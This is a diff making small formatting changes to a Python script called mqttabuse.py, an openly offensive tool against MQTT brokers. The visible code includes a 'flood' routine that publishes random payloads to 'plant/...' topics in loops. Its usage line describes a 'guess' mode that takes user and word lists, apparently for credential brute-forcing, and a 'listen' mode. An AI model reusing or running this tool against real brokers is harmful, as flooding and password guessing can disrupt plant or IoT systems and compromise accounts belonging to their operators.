@@ -36,7 +36,9 @@ def flood(host: str, port: int, user: str, password: str, times: int, messages: 
         sender.connect(host, port, keepalive=20)
         sender.loop_start()
         for _ in range(messages):
-            sender.publish(f"plant/{random.randrange(9)}/{random.randrange(99)}", random.randbytes(size), qos=number % 2)
+            sender.publish(
+                f"plant/{random.randrange(9)}/{random.randrange(99)}", random.randbytes(size), qos=number % 2
+            )
         time.sleep(1.5)
         sender.loop_stop()
         sender.disconnect()
@@ -55,7 +57,7 @@ def listen(host: str, port: int, user: str, password: str, times: int, seconds: 
 
 
 def main() -> None:
-    """mqttabuse.py guess HOST PORT USERS WORDS GAP | flood HOST PORT USER PW TIMES MESSAGES SIZE | listen ... TIMES SECONDS."""
+    """Take guess HOST PORT USERS WORDS GAP, flood HOST PORT USER PASSWORD TIMES MESSAGES SIZE, or listen: TIMES SECONDS."""
     what, host, port, first, second, *rest = sys.argv[1:]
     numbers = [float(text) for text in rest]
     if what == "guess":
